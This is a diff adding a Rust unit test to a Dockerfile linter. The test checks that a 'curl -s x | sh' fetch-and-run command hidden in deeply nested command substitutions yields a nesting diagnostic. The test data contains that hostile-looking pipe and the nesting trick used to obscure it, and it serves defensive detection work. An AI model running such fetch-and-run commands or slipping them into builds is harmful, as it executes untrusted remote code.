@@ -174,3 +174,19 @@ fn deeply_nested_lists_are_a_diagnostic() {
     assert!(matches!(diags[0].limit, plimsoll_lint::Limit::ListNesting { .. }));
     assert!(diags[0].to_string().starts_with("lists.yaml: line 1: not checked"), "{}", diags[0]);
 }
+
+/// `curl | sh` hidden in command substitutions nested past the analysed depth: a diagnostic.
+#[test]
+fn deeply_nested_substitution_is_a_diagnostic() {
+    let hidden = format!("FROM alpine:3.19\nRUN echo {}curl -s x | sh{}\n", "$(echo ".repeat(12), ")".repeat(12));
+    let mut l = Linter::new(LintConfig::default());
+    l.add("Dockerfile", hidden.as_bytes()).unwrap();
+    let (_, diags) = l.finish_with_diagnostics();
+    assert_eq!(diags.len(), 1, "{diags:?}");
+    assert_eq!((diags[0].line, diags[0].whole_file), (2, false));
+    assert!(matches!(diags[0].limit, plimsoll_lint::Limit::ShellNesting { .. }));
+    // Within the depth, nothing is reported as skipped.
+    let mut l = Linter::new(LintConfig::default());
+    l.add("Dockerfile", b"FROM alpine:3.19\nRUN echo $(echo $(curl -s x | sh))\n").unwrap();
+    assert!(l.diagnostics().is_empty());
+}
